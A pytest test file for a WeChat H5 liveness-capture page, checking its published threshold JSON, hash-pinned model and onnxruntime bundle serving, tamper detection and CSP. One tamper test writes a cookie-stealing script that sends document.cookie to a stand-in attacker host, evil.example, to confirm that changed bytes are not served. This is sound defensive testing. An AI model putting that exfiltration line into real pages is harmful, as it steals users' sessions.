"""Live face guidance of the capture page (service/features/wechat/h5/vendor.py): the one JSON of rules built
from the server's constants, onnxruntime-web from the cache of scripts/web_bundle.sh at a versioned URL, the
detector from the verified model store at a URL versioned by its hash, and the capture page's CSP."""

from __future__ import annotations

import hashlib
import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from models.store import ModelStore
from pipelines.liveness import signals
from pipelines.liveness.actions import ActionConfig
from pipelines.liveness.capture import CaptureConfig
from pipelines.liveness.challenge import ACTIONS, BLINK, NOD, OPEN_MOUTH, TURN_LEFT, TURN_RIGHT
from pipelines.liveness.video import SamplingConfig, VideoLimits
from service.features.wechat.h5 import vendor, voice
from service.features.wechat.h5.pages import HERE
from tests.service.features.wechat.h5.conftest import App

BUNDLE = {
    "ort.wasm.min.js": b"/* ort */",
    "ort-wasm-simd-threaded.mjs": b"/* glue */",
    "ort-wasm-simd-threaded.wasm": b"\0asm",
}


@pytest.fixture
def bundle(app: App, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A web cache with the three files web_bundle.sh extracts and the `.complete` it writes last, `sha256sum` of
    each (their content does not matter here)."""
    monkeypatch.setattr(app.ctx.settings, "web_dir", tmp_path / "web")
    folder = vendor.ort_dir(app.ctx.settings.web_dir)
    folder.mkdir(parents=True)
    for name, data in BUNDLE.items():
        (folder / name).write_bytes(data)
    with (folder / ".complete").open("wb") as record:
        subprocess.run(["sha256sum", *BUNDLE], cwd=folder, check=True, stdout=record)
    return folder


def test_the_rules_are_the_servers_constants(app: App, bundle: Path) -> None:
    cfg = app.client.get("/h5/guidance.json").json()
    assert cfg["available"] is True
    actions = ActionConfig()
    assert set(cfg["actions"]) == set(ACTIONS)  # every action the challenge may ask is confirmed live
    assert cfg["actions"][TURN_LEFT] | {"prompt": ""} == {
        "prompt": "",
        "signal": "yaw",
        "sign": 1,  # positive yaw: nose to image-right, the subject's own left (signals.FaceSignals)
        "relative": True,
        "threshold": actions.turn_deg,
    }
    assert cfg["actions"][TURN_RIGHT]["sign"] == -1 and cfg["actions"][TURN_RIGHT]["threshold"] == actions.turn_deg
    assert cfg["actions"][NOD]["signal"] == "pitch" and cfg["actions"][NOD]["threshold"] == actions.nod_deg
    assert (
        cfg["actions"][OPEN_MOUTH]["threshold"] == actions.mouth_open_ratio
        and not cfg["actions"][OPEN_MOUTH]["relative"]
    )
    blink = cfg["actions"][BLINK]
    assert (blink["threshold"], blink["max_s"], blink["window_s"]) == (
        actions.blink_ratio,
        actions.blink_max_s,
        actions.blink_window_s,
    )
    assert cfg["rest_s"] == actions.rest_s
    assert cfg["mesh"]["indices"]["right_eye"] == list(signals._RIGHT_EYE)
    assert cfg["mesh"]["indices"]["cheeks"] == [signals._CHEEK_RIGHT, signals._CHEEK_LEFT]
    assert cfg["position"]["min_face_luma"] == CaptureConfig().min_face_luma
    assert cfg["position"]["min_face_share"] > CaptureConfig().min_face_px / vendor.ANALYSIS_LONG_SIDE
    assert cfg["hints"] == vendor.HINTS


def test_the_camera_is_asked_for_the_servers_analysis_size(app: App, bundle: Path) -> None:
    """The page asks for the size the server scales every frame to, which its own video limits accept."""
    cfg = app.client.get("/h5/guidance.json").json()
    sampling, limits = SamplingConfig(), VideoLimits()
    width, height = cfg["capture"]["width"], cfg["capture"]["height"]
    assert max(width, height) == sampling.analysis_side and width * 3 == height * 4
    assert min(width, height) >= limits.min_side == cfg["capture"]["min_side"]
    assert width * height <= limits.max_pixels and cfg["capture"]["max_s"] == limits.max_duration_s
    # The page reads it from the JSON, no size of its own.
    page = "".join(f.read_text() for f in sorted((HERE / "static").glob("*.js")))  # guidance.js, h5*.js
    assert "c.capture.width" in page and str(sampling.analysis_side) not in page


def test_the_recorder_bitrate_is_the_servers(app: App, bundle: Path) -> None:
    """The page records at the bitrate the server publishes (one constant, measured against the server's
    analysis in bench/h5_capture_size.py), not at one of its own nor at the browser's choice."""
    capture = app.client.get("/h5/guidance.json").json()["capture"]
    assert capture["video_bits_per_second"] == vendor.RECORDER_BITS_PER_SECOND > 0
    guidance_js = (HERE / "static" / "guidance.js").read_text()
    h5_js = "".join(f.read_text() for f in sorted((HERE / "static").glob("h5*.js")))
    assert "c.capture.video_bits_per_second" in guidance_js and "opts.videoBitsPerSecond = recorderBits" in h5_js
    assert str(vendor.RECORDER_BITS_PER_SECOND) not in guidance_js + h5_js


def test_the_sharpness_hint_follows_the_servers_blur_limit(app: App, bundle: Path) -> None:
    position = app.client.get("/h5/guidance.json").json()["position"]
    assert position["min_sharpness"] == vendor.SHARPNESS_SHARE * CaptureConfig().min_sharpness
    assert 0 < position["min_sharpness"] <= CaptureConfig().min_sharpness  # advisory: never stricter
    assert position["sharpness_crop"] == [64, 80]  # the server's centre crop of its aligned face (w, h)
    assert vendor.HINTS["blurry"] == "画面模糊,请保持手机稳定" and "guide_blurry" in voice.PROMPTS


def test_no_threshold_is_written_in_the_page() -> None:
    js = (HERE / "static" / "guidance.js").read_text()
    actions = ActionConfig()
    capture = CaptureConfig()
    thresholds = (actions.turn_deg, actions.nod_deg, actions.blink_ratio, capture.min_face_luma, capture.min_sharpness)
    for value in (*thresholds, 234, 454):
        assert str(value) not in js, value


def test_the_model_is_served_from_the_store_and_its_hash_published(app: App, bundle: Path, models_dir: Path) -> None:
    model = app.client.get("/h5/guidance.json").json()["model"]
    assert model["url"] == f"/h5/models/{model['sha256'][:16]}/yunet_n_dynamic.onnx"
    r = app.client.get(model["url"])
    assert r.status_code == 200 and hashlib.sha256(r.content).hexdigest() == model["sha256"]
    assert r.content == (models_dir / "yunet_n_dynamic.onnx").read_bytes()
    assert "immutable" in r.headers["cache-control"]
    assert app.client.get("/h5/models/0000000000000000/yunet_n_dynamic.onnx").status_code == 404  # other version
    assert app.client.get(f"/h5/models/{model['sha256'][:16]}/det_500m.onnx").status_code == 404  # other model
    mesh = app.client.get("/h5/guidance.json").json()["mesh"]
    r = app.client.get(mesh["url"])
    assert (
        mesh["url"].endswith("/mediapipe_face_landmark.onnx")
        and hashlib.sha256(r.content).hexdigest() == mesh["sha256"]
    )


@pytest.fixture
def own_models(app: App, tmp_path: Path, models_dir: Path) -> Path:
    """The page's two models copied into a folder of the test's own (the shared models are never changed), as the
    app's store."""
    folder = tmp_path / "models"
    folder.mkdir()
    store = ModelStore(folder)
    for name in (vendor.GUIDANCE_MODEL, vendor.MESH_MODEL):
        file = store.manifest.model(name).file
        shutil.copy2(models_dir / file, folder / file)
    app.client.app.state.h5_model_store = store  # type: ignore[attr-defined]  # TestClient.app: the ASGI app
    return folder


def _swap_keeping_size_and_mtime(path: Path) -> None:
    st = path.stat()
    with path.open("r+b") as fh:  # same inode, same size
        fh.write(b"\xff" * 64)
    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))


def test_a_model_swapped_keeping_its_size_and_mtime_is_not_served(app: App, bundle: Path, own_models: Path) -> None:
    """The store hashed the detector for guidance.json and then trusts its (size, mtime): before, the model URL sent
    the file by path, so the swapped bytes went out under the immutable URL of the pinned hash."""
    model = app.client.get("/h5/guidance.json").json()["model"]
    assert model["url"]
    _swap_keeping_size_and_mtime(own_models / "yunet_n_dynamic.onnx")
    assert app.client.get(model["url"]).status_code == 404


def test_a_model_served_then_swapped_still_serves_the_verified_bytes(app: App, bundle: Path, own_models: Path) -> None:
    mesh = app.client.get("/h5/guidance.json").json()["mesh"]
    path = own_models / "mediapipe_face_landmark.onnx"
    pinned = path.read_bytes()
    assert app.client.get(mesh["url"]).content == pinned
    _swap_keeping_size_and_mtime(path)
    r = app.client.get(mesh["url"])
    assert r.status_code == 200 and r.content == pinned and hashlib.sha256(r.content).hexdigest() == mesh["sha256"]


def test_the_bundle_is_served_at_its_versioned_url(app: App, bundle: Path) -> None:
    base = app.client.get("/h5/guidance.json").json()["ort"]["wasm_paths"]
    assert base == f"/h5/static/vendor/ort-{vendor.ORT_VERSION}/"
    wasm = app.client.get(base + "ort-wasm-simd-threaded.wasm")
    assert wasm.status_code == 200 and wasm.content == b"\0asm"
    assert wasm.headers["content-type"] == "application/wasm"  # what WebAssembly.instantiateStreaming needs
    assert app.client.get(base + "ort.wasm.min.js").headers["content-type"].startswith("text/javascript")
    assert app.client.get("/h5/static/vendor/ort-1.0.0/ort.wasm.min.js").status_code == 404
    assert app.client.get(base + "ort.all.min.js").status_code == 404  # only the extracted files


def test_without_the_bundle_the_page_is_told_to_use_its_fallback(
    app: App, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(app.ctx.settings, "web_dir", tmp_path / "empty")
    assert app.client.get("/h5/guidance.json").json()["available"] is False
    assert app.client.get(f"/h5/static/vendor/ort-{vendor.ORT_VERSION}/ort.wasm.min.js").status_code == 404


def test_a_half_extracted_bundle_is_not_used(app: App, bundle: Path) -> None:
    (bundle / ".complete").unlink()  # web_bundle.sh writes it last
    assert app.client.get("/h5/guidance.json").json()["available"] is False


def test_a_bundle_file_changed_after_extraction_is_not_served(app: App, bundle: Path) -> None:
    """Served once (verified), then the script is rewritten on disk: the page gets no bundle (its fallback flow)
    and the immutable URL answers 404, never the changed bytes."""
    script = f"/h5/static/vendor/ort-{vendor.ORT_VERSION}/ort.wasm.min.js"
    assert app.client.get(script).content == BUNDLE["ort.wasm.min.js"]
    (bundle / "ort.wasm.min.js").write_bytes(b"fetch('https://evil.example/?c='+document.cookie)")
    assert app.client.get("/h5/guidance.json").json()["available"] is False
    assert app.client.get(script).status_code == 404


def test_a_same_size_swap_keeping_the_stat_still_serves_the_verified_bytes(app: App, bundle: Path) -> None:
    """Size and mtime put back after a same-size swap: what is served is the bytes hashed before, never the disk's."""
    script, path = f"/h5/static/vendor/ort-{vendor.ORT_VERSION}/ort.wasm.min.js", bundle / "ort.wasm.min.js"
    assert app.client.get(script).status_code == 200
    st = path.stat()
    with path.open("r+b") as fh:  # same inode, same size
        fh.write(b"/* bad */")
    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))
    assert app.client.get(script).content == BUNDLE["ort.wasm.min.js"]


def test_a_bundle_without_its_recorded_hashes_is_not_used(app: App, bundle: Path) -> None:
    (bundle / ".complete").write_text("")  # what the fixture wrote before the hashes were checked
    assert app.client.get("/h5/guidance.json").json()["available"] is False
    assert app.client.get(f"/h5/static/vendor/ort-{vendor.ORT_VERSION}/ort.wasm.min.js").status_code == 404


def test_only_the_capture_page_may_compile_webassembly(app: App) -> None:
    certify = app.client.get("/h5/certify")
    assert "'wasm-unsafe-eval'" in certify.headers["content-security-policy"]
    assert "'unsafe-eval'" not in certify.headers["content-security-policy"].replace("'wasm-unsafe-eval'", "")
    assert '<script src="/h5/static/guidance.js?v=' in certify.text
    assert "wasm-unsafe-eval" not in app.client.get("/h5/family").headers["content-security-policy"]
    js = app.client.get("/h5/static/guidance.js")
    assert js.status_code == 200 and "H5Guidance" in js.text


def test_every_hint_is_a_spoken_prompt() -> None:
    assert {f"guide_{key}" for key in vendor.HINTS} <= set(voice.PROMPTS)


def test_the_bundle_script_without_npm_leaves_set_up_working(tmp_path: Path) -> None:
    """No npm (or no network): web_bundle.sh says so and exits 0, so scripts/setup.sh goes on; nothing cached."""
    script = Path(__file__).resolve().parents[5] / "scripts" / "web_bundle.sh"
    env = {"PATH": str(tmp_path / "no-tools"), "HOME": str(tmp_path), "PENSION_CERT_WEB_DIR": str(tmp_path / "web")}
    done = subprocess.run(["/bin/bash", str(script)], env=env, capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    assert "npm is not installed" in done.stderr and "fallback flow" in done.stderr
    assert not (tmp_path / "web").exists()
    pinned = re.search(r'ORT_VERSION="([^"]+)"', script.read_text())
    assert pinned is not None and pinned.group(1) == vendor.ORT_VERSION  # the script and the server agree
    files = re.search(r"ORT_FILES=\(([^)]*)\)", script.read_text())
    assert files is not None and tuple(files.group(1).split()) == vendor.ORT_FILES
